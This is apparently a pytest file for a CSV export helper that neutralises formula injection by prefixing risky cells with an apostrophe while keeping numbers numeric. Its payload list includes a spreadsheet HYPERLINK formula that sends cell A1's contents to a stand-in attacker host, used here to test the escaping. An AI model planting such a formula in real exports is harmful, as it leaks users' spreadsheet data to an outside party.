"""The one rule for CSV: what would be a formula is a text, what is a number stays one."""

from __future__ import annotations

import csv
import io
import math
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.spreadsheet import as_csv, cell

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"a picture")',
    "=1+1",
    "+1+1",
    "-1+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
)


def read(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_is_never_a_formula(text: str) -> None:
    """An apostrophe stands before it, in a cell, in a list and in a heading; the rest is word for word."""
    [row] = read(as_csv([text, "list", "told"], [{text: text, "list": [text, "b"], "told": {"a": text}}]))
    assert row[f"'{text}"] == f"'{text}"
    assert row["list"] == f"'{text}, b"
    assert row["told"].startswith("{")


@pytest.mark.parametrize("number", [-1, -0.5, -1e-09, 0, 7, 2**62, 0.1 + 0.2, Decimal("-0.06"), -math.inf])
def test_a_number_stays_a_number(number: Any) -> None:
    """Negative ones too, to the last digit."""
    data = as_csv(["n"], [{"n": number}])
    [row] = read(data)
    assert type(number)(row["n"]) == number
    assert pd.read_csv(io.BytesIO(data))["n"].dtype.kind in "if"


def test_everything_else_is_said_as_text() -> None:
    """Nothing, truth, times and bytes; what begins with a minus once it is text is guarded too."""
    assert [cell(value) for value in (None, True, False, "calm - sea", "a=1", "")] == [
        None,
        "true",
        "false",
        "calm - sea",
        "a=1",
        "",
    ]
    assert cell(datetime(2026, 11, 23, tzinfo=UTC)) == "2026-11-23T00:00:00+00:00"
    assert cell(date(2026, 11, 23)) == "2026-11-23"
    assert cell(b"\xaa") == "aa"
    assert cell(["a", None, "b"]) == "a, b"
    assert cell([{"l": -1.5}]) == '[{"l": -1.5}]'
    assert cell(timedelta(days=-1)).startswith("'-1 day")


def test_programs_and_people_read_the_same() -> None:
    """Quotes, commas, line ends and any alphabet come back; the mark at its head says that it is UTF-8."""
    rows: list[dict[str, Any]] = [{"a": 'Öl, "Licht"\r\n海', "b": 1}, {"a": "\ud800 torn", "b": None}]
    data = as_csv(["b", "a"], rows)
    assert data.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(io.BytesIO(data))
    assert list(frame.columns) == ["b", "a"]
    assert frame["a"].tolist() == ['Öl, "Licht"\r\n海', "? torn"]
    assert as_csv(["a"], []) == b"\xef\xbb\xbfa\r\n"


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    """Whatever it is, and it can be had back."""
    said = cell(text)
    assert said in (text, f"'{text}")
    assert not said.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
